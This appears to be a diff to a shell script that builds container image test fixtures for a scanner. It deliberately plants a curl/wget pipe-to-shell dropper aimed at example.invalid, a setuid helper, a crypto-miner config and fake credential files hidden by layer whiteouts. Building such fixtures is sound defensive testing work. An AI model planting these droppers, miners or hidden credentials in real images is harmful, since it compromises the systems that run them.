@@ -11,6 +11,8 @@
 # OUTDIR/NAME.oci.tar              oci-archive (skopeo)
 # OUTDIR/alpine-multi.oci.tar      the 2-platform index (amd64 + arm64/v8)
 # OUTDIR/planted-buildah.*.tar     buildah build --isolation chroot --layers
+# (planted: curl|sh start script, miner config, fake AWS key, setuid file, cron entry, and
+#  credential-named files hidden by a file whiteout, a directory whiteout and an opaque dir)
 # OUTDIR/corrupt/                  damaged copies: layer bytes altered (digest kept), layer
 #                                  blob truncated, manifest that is not JSON, config altered
 #
@@ -45,6 +47,13 @@ done
 mkdir -p "$WORK"
 exec 9> "$WORK/lock"
 flock 9                               # ctest may start two users of OUTDIR at once
+
+# Bump when an image's recipe changes: the images built from the planted
+# payload are then rebuilt (the debootstrap tree and the base images stay).
+FIXTURE_REV=2
+if [ "$(cat "$OUT/.rev" 2> /dev/null || true)" != "$FIXTURE_REV" ]; then
+  rm -rf "${OUT:?}"/planted*.tar "$OUT/edge-mislabeled.oci.tar" "$OUT/corrupt"
+fi
 
 have() { [ -e "$1" ]; }
 layout_init() { [ -f "$LAYOUT/oci-layout" ] || umoci init --layout "$LAYOUT"; }
@@ -209,6 +218,11 @@ EOS
   printf '#!/bin/sh\nid\n' > "$r/usr/local/bin/suid-helper"
   printf '#!/bin/sh\nwget -qO- http://example.invalid/stage2 | sh\n' > "$r/tmp/.cache/dropper.sh"
   printf 'stage blob (deleted in a later layer)\n' > "$r/root/.stage/blob.bin"
+  # credential-named files that later layers hide: a file whiteout, a directory
+  # whiteout and an opaque directory (the bytes still ship in layer 2)
+  printf 'https://fixture:NOT_A_REAL_TOKEN@git.example.invalid\n' > "$r/tmp/.cache/.git-credentials"
+  printf 'machine ftp.example.invalid login fixture password not-a-real-password\n' > "$r/root/.stage/.netrc"
+  printf '{"fixture": "not a real credential"}\n' > "$r/var/lib/fixture-opaque/credentials.json"
   printf 'a\n' > "$r/var/lib/fixture-opaque/a.txt"; printf 'b\n' > "$r/var/lib/fixture-opaque/b.txt"
   chmod 0755 "$r/usr/local/bin/start.sh" "$r/opt/xmrig/xmrig" "$r/tmp/.cache/dropper.sh"
   chmod 4755 "$r/usr/local/bin/suid-helper"
@@ -234,10 +248,10 @@ do_planted() {
     --history.created_by '/bin/sh -c wget -qO /tmp/.cache/dropper.sh http://example.invalid/stage2 && curl -s http://example.invalid/x | sh' "$b"
   # layer 3: a file and a directory deleted -> .wh.dropper.sh and .wh..stage
   touch "$WORK/stamp"; sleep 0.01
-  rm -f "$b/rootfs/tmp/.cache/dropper.sh"; rm -rf "$b/rootfs/root/.stage"
+  rm -f "$b/rootfs/tmp/.cache/dropper.sh" "$b/rootfs/tmp/.cache/.git-credentials"; rm -rf "$b/rootfs/root/.stage"
   clamp_mtimes "$b/rootfs"
   umoci repack --image "$LAYOUT:planted" --history.created "$CREATED" \
-    --history.created_by '/bin/sh -c rm -rf /tmp/.cache/dropper.sh /root/.stage' "$b"
+    --history.created_by '/bin/sh -c rm -rf /tmp/.cache/dropper.sh /tmp/.cache/.git-credentials /root/.stage' "$b"
   rm -rf "$b"
   # layer 4: opaque directory (GNU tar + umoci raw add-layer)
   rm -rf "$o"; mkdir -p "$o/var/lib/fixture-opaque"
@@ -307,7 +321,7 @@ do_buildah() {
 FROM scratch
 ADD rootfs.tar.gz /
 COPY payload/ /
-RUN chmod 4755 /usr/local/bin/suid-helper && rm -rf /tmp/.cache/dropper.sh /root/.stage
+RUN chmod 4755 /usr/local/bin/suid-helper && rm -rf /tmp/.cache/dropper.sh /tmp/.cache/.git-credentials /root/.stage
 ENV MINING_POOL=stratum+tcp://pool.example.invalid:3333
 LABEL fixture.purpose=planted-suspicious-payload
 EXPOSE 3333
@@ -403,4 +417,5 @@ do_planted
 do_edge
 do_buildah
 do_corrupt
+echo "$FIXTURE_REV" > "$OUT/.rev"
 log "fixtures ready in $OUT ($(du -sh "$OUT" | cut -f1))"
